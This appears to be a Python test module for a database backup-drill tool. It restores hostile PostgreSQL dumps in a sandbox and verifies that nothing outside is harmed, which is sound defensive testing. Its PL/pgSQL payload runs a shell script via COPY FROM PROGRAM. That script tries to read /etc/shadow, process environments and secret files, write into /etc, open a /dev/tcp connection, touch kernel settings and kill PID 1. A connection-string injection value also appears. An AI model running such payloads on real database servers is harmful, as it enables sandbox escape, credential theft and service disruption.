"""Databases that attack whoever restores them, and what must not have happened outside afterwards.

    victim = Victim()                                   # a box with another source's dump, a ledger, secrets, a listener
    victim.attack(ATTACK.format(code=program(victim.script())) + "CREATE TABLE t (i int CHECK (attack(i) = 1)); ...")
    victim.unharmed()

A source must not be hurt by what its own tables hold: 'attack' strikes only on a server that listens nowhere, which the scratch
server is and a source is not. What it came upon is the error it ends with, so that it can be read in the drill.
"""

import hashlib
import json
import socket
import threading

from . import processes, tap
from .box import Box, described
from .postgres import Source

SECRET = "the-other-source-s-row"

# 'strike' does it, 'attack' is what an index, a CHECK or a generated column may call.
ATTACK = """
CREATE TABLE public.answer (line text);
CREATE FUNCTION public.strike(x int) RETURNS int LANGUAGE plpgsql AS $strike$
DECLARE
    came text := '';
    object oid;
BEGIN
    IF pg_catalog.current_setting('listen_addresses') <> '' THEN RETURN x; END IF;
    PERFORM pg_catalog.set_config('search_path', 'pg_catalog', true);
    BEGIN
        {code}
    EXCEPTION WHEN OTHERS THEN
        came := came || ' refused: ' || SQLERRM;
    END;
    {end}
    RETURN x;
END $strike$;
CREATE FUNCTION public.attack(x int) RETURNS int LANGUAGE plpgsql IMMUTABLE AS 'BEGIN RETURN (SELECT public.strike(x)); END';
"""
LOUD = "RAISE EXCEPTION 'struck: %', came;"


def attack(code, end=LOUD):
    return ATTACK.format(code=code, end=end)


def program(script):
    """plpgsql: a shell script run by the server; what it printed is what came of it."""
    return f"""COPY public.answer FROM PROGRAM $prog${script}$prog$;
        SELECT came || pg_catalog.string_agg(line, ' ') INTO came FROM public.answer;
        DELETE FROM public.answer;"""


class Ear:
    """A listener on the host's loopback that nobody is to come to."""

    def __init__(self):
        self.came = 0
        self.socket = socket.create_server(("127.0.0.1", 0))
        self.port = self.socket.getsockname()[1]
        threading.Thread(target=self._listen, daemon=True).start()
        tap.at_exit(self.socket.close)

    def _listen(self):
        while True:
            try:
                self.socket.accept()[0].close()
            except OSError:
                return
            self.came += 1

    def check(self):
        """It would hear somebody: a test is not deaf."""
        socket.create_connection(("127.0.0.1", self.port), 5).close()
        processes.wait_for(lambda: self.came == 1)
        self.came = 0


def innocent():
    if not hasattr(innocent, "it"):
        innocent.it = Source(database="other")
        innocent.it.sql(f"CREATE TABLE t AS SELECT i, '{SECRET}' AS text FROM generate_series(1, 5) AS i")
    return innocent.it


class Victim(Box):
    def __init__(self, **options):
        super().__init__(**options)
        self.ear = Ear()
        self.ear.check()
        self.add(innocent(), name="other", pull={"compress": "none"})
        self.run("round", "other", code=0)
        self.other = self.dumps("other")[0]
        tap.ok(SECRET.encode() in self.other.read_bytes(), "the other dump does not hold what nobody is to read")
        self.sources_made = 0
        self.marker = self.dir / "marker"
        self.before = self.outside()

    def outside(self):
        """What a dump of the source 'shop' must not change."""
        return {
            "store": {p.name: hashlib.sha256(p.read_bytes()).hexdigest() for p in self.other.parent.iterdir() if p.is_file()},
            "ledger": {table: self.ledger(f"SELECT * FROM {table} WHERE source = 'other'")
                       for table in ("rounds", "pulls", "dumps", "drills")},
            "etc": {str(p): p.read_bytes() for p in self.etc.rglob("*")
                    if p.is_file() and "shop" not in str(p.relative_to(self.etc))},
        }

    def script(self):
        """A shell script that tries what it can; it prints GOT-... for what it got."""
        return f"""export LC_ALL=C PATH=/usr/bin:/bin
            echo ran
            for file in '{self.other}' '{self.data}/ledger/ledger.sqlite' '{self.etc}/secrets/other' '{self.conf}' \\
                /etc/drillbox/drillbox.conf /etc/shadow /proc/1/environ; do
                grep -qa . "$file" 2>/dev/null && test "$file" != /proc/1/environ && echo "GOT-$file"
            done
            grep -rqa '{SECRET.replace("source", "[s]ource")}' / --exclude-dir=proc --exclude-dir=sys --exclude-dir=usr \\
                2>/dev/null && echo GOT-row
            touch '{self.marker}' '{self.data}/store/x' /usr/x /etc/x 2>/dev/null && echo GOT-file
            ls -d '{self.dir}' '{self.data}' 2>/dev/null && echo GOT-folder
            bash -c 'exec 3<>/dev/tcp/127.0.0.1/{self.ear.port}' 2>/dev/null && echo GOT-network
            grep -qsE '^(drillbox|python3)' /proc/[0-9]*/comm && echo GOT-process
            (true >> /proc/sys/kernel/core_pattern) 2>/dev/null && echo GOT-kernel
            unshare -U true 2>/dev/null && echo GOT-namespace
            (setsid sleep 300 &) >/dev/null 2>&1 </dev/null
            kill -9 1 2>/dev/null; kill -0 1 2>/dev/null || true
            true"""

    def hostile(self, sql, drill=None, **options):
        """A round of a source with this in it; the drill, which has left nothing behind and changed nothing outside."""
        source = Source(**options)
        name = source.database.replace("\\", "\\\\").replace("'", "\\'")
        source.sql(sql, f"dbname='{name}'")  # which may look like a connection string itself
        self.sources_made += 1
        name = f"shop{self.sources_made}"  # not compared with the one before
        self.add(source, name=name, drill=drill or {})
        self.run("round", name, code=(0, 1, 2))
        source.stop()
        found = self.show(name)
        print(f"# {found['verdict']}: {found['reason'][:200]}")
        self.unharmed()
        return found

    def pulled(self, sql):
        """What became of a pull of a source with this in it."""
        source = Source()
        source.sql(sql)
        self.add(source)
        return self.run("pull", "shop")

    def unharmed(self):
        tap.ok(not self.marker.exists(), "a file was made outside")
        tap.equal(self.ear.came, 0, "connections to the host's loopback")
        after = self.outside()
        for what, state in self.before.items():
            tap.equal(after[what], state, f"{what} afterwards")
        tap.equal(self.ledger("PRAGMA integrity_check"), [{"integrity_check": "ok"}], "the ledger")
        self.no_leftovers()


def said(drill):
    """What a drill tells of what was not well, and its notes."""
    return described(drill)


def struck(drill):
    """The attack came to its end and got nothing; the dump did not pass for it."""
    tap.ok(drill["verdict"] != "pass", described(drill))
    tap.matches("struck: ", said(drill), "the drill")
    got_nothing(drill)


def got_nothing(drill):
    tap.matches_not("GOT-[^ ]*", said(drill), "the drill")
    tap.matches_not(SECRET, said(drill), "the drill")
